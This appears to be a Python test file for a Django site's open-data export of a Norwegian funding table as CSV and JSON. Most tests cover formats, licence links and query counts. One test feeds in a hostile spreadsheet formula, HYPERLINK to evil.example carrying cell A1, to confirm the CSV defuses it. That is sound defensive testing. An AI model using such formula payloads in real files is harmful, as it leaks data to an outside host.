"""The funding table as open data: CSV and JSON, documented, under NLOD 2.0."""

import csv
import datetime
import io
import json
import re
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from programme.opendata import FIELDS
from tests.factories import make_grant, make_phase, make_programme

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def without_page_cache(settings):
    """These tests change content between requests without the admin."""
    settings.PAGE_CACHE = False


def csv_rows(response):
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def test_csv_has_one_row_per_published_grant_with_the_real_figures(client, hallingdal):
    response = client.get("/nn/funding/grants.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="hallingdal-grants-nn.csv"'
    (row,) = csv_rows(response)
    assert list(row) == FIELDS
    assert row == {
        "programme": "Framtidstru og vekst i Hallingdal",
        "programme_url": "http://testserver/nn/programmes/framtidstru-og-vekst-i-hallingdal/",
        "phase": "2",
        "funder": "Kommunal- og moderniseringsdepartementet (KMD)",
        "amount_nok": "2680000",
        "awarded": "2015-06",
        "share_of_total_budget": "0.4061",
        "source_url": "",
    }


def test_csv_opens_as_utf8_in_excel_thanks_to_the_byte_order_mark(client, hallingdal):
    raw = client.get("/nb/funding/grants.csv").content
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"Kommunal- og moderniseringsdepartementet" in raw


def test_json_carries_licence_documentation_and_typed_values(client, hallingdal):
    response = client.get("/en/funding/grants.json")

    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    data = json.loads(response.content)
    assert data["licence"]["url"] == "https://data.norge.no/nlod/no/2.0"
    assert data["licence"]["url_en"] == "https://data.norge.no/nlod/en/2.0"
    assert data["documentation"] == "http://testserver/en/funding/open-data/"
    (grant,) = data["grants"]
    assert grant["funder"] == "Ministry of Local Government and Modernisation (KMD)"
    assert grant["amount_nok"] == 2680000
    assert grant["share_of_total_budget"] == 0.4061
    assert grant["phase"] == 2
    assert grant["source_url"] is None


def test_unknowns_stay_empty_and_dates_keep_their_precision(client):
    programme = make_programme(slug="p", title_nn="Prøve", total_budget=None)
    phase = make_phase(programme, number=1)
    make_grant(programme, amount=Decimal("1234.50"), awarded_on=None)
    make_grant(
        programme,
        phase=phase,
        awarded_on=datetime.date(2016, 3, 9),
        awarded_on_precision="year",
        source_url="https://example.org/vedtak",
    )
    make_grant(programme, awarded_on=datetime.date(2016, 3, 9), awarded_on_precision="day")
    make_grant(programme, is_published=False, funder_nn="Løyndom")

    rows = csv_rows(client.get("/nn/funding/grants.csv"))

    assert [row["awarded"] for row in rows] == ["2016", "2016-03-09", ""]
    assert [row["phase"] for row in rows] == ["1", "", ""]
    assert rows[2]["amount_nok"] == "1234.50"
    assert {row["share_of_total_budget"] for row in rows} == {""}
    assert rows[0]["source_url"] == "https://example.org/vedtak"
    assert "Løyndom" not in str(rows)
    data = json.loads(client.get("/nn/funding/grants.json").content)
    assert data["grants"][2]["amount_nok"] == 1234.5
    assert data["grants"][2]["share_of_total_budget"] is None


def test_drafts_are_not_in_the_data(client):
    draft = make_programme(slug="draft", is_published=False)
    make_grant(draft, funder_nn="Utkast")

    assert csv_rows(client.get("/nn/funding/grants.csv")) == []
    assert json.loads(client.get("/nn/funding/grants.json").content)["grants"] == []


def test_every_field_is_documented_and_the_licence_linked(client, hallingdal):
    html = client.get("/en/funding/open-data/").content.decode()

    documented = re.findall(r'<th scope="row"><code>(\w+)</code></th>', html)
    assert documented == FIELDS
    assert 'href="https://data.norge.no/nlod/no/2.0"' in html
    assert 'href="https://data.norge.no/nlod/en/2.0"' in html
    assert 'href="/en/funding/grants.csv"' in html
    assert 'href="/en/funding/grants.json"' in html


def test_funding_page_links_to_the_open_data(client, hallingdal):
    html = client.get("/nn/funding/").content.decode()
    assert 'href="/nn/funding/open-data/"' in html


def test_data_files_cost_one_query_however_many_grants(client):
    def count(path):
        with CaptureQueriesContext(connection) as context:
            client.get(path)
        return len(context.captured_queries)

    make_grant(make_programme())
    before = count("/nn/funding/grants.csv"), count("/nn/funding/grants.json")
    for _ in range(4):
        programme = make_programme()
        make_grant(programme, phase=make_phase(programme))
    assert (count("/nn/funding/grants.csv"), count("/nn/funding/grants.json")) == before


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(client, start):
    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"KMD")'
    programme = make_programme(title_nn=hostile, total_budget=Decimal("6600000"))
    make_grant(programme, funder_nn=hostile, source_url=hostile, amount=Decimal("2680000"))

    response = client.get("/nn/funding/grants.csv")
    (row,) = csv_rows(response)
    assert row["programme"] == row["funder"] == row["source_url"] == "'" + hostile
    # The numbers stay plain numbers, unquoted, for a spreadsheet to sum.
    assert row["amount_nok"] == "2680000" and row["share_of_total_budget"] == "0.4061"
    assert ",2680000," in response.content.decode()

    (grant,) = json.loads(client.get("/nn/funding/grants.json").content)["grants"]
    assert grant["programme"] == grant["funder"] == grant["source_url"] == hostile
    assert grant["amount_nok"] == 2680000


def test_csv_keeps_ordinary_text_and_quotes_every_text_cell(client):
    """Text that only looks like a number is still text; a separator cannot start a cell."""
    programme = make_programme(title_nn="Prøve")
    make_grant(programme, funder_nn="-5 % frå fondet", amount=Decimal("1234.50"))
    make_grant(programme, funder_nn="KMD;=1+1", amount=Decimal("10"))
    make_grant(programme, funder_nn="Kommune 'Ål'", amount=Decimal("20"))

    response = client.get("/nn/funding/grants.csv")
    rows = csv_rows(response)
    assert [row["funder"] for row in rows] == ["'-5 % frå fondet", "KMD;=1+1", "Kommune 'Ål'"]
    body = response.content.decode()
    # Norwegian Excel splits on semicolons: inside quotes, the formula stays in its cell.
    assert '"KMD;=1+1"' in body
    assert ",1234.50," in body and '"Prøve"' in body
    data = json.loads(client.get("/nn/funding/grants.json").content)
    assert [grant["funder"] for grant in data["grants"]] == [
        "-5 % frå fondet",
        "KMD;=1+1",
        "Kommune 'Ål'",
    ]


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("nn", "får ein apostrof (') framfor seg"),
        ("nb", "får en apostrof (') foran seg"),
        ("en", "gets an apostrophe (') in front"),
    ],
)
def test_the_page_says_how_the_csv_file_keeps_formulas_out(client, language, text):
    html = client.get(f"/{language}/funding/open-data/").content.decode()
    assert text in " ".join(html.split())
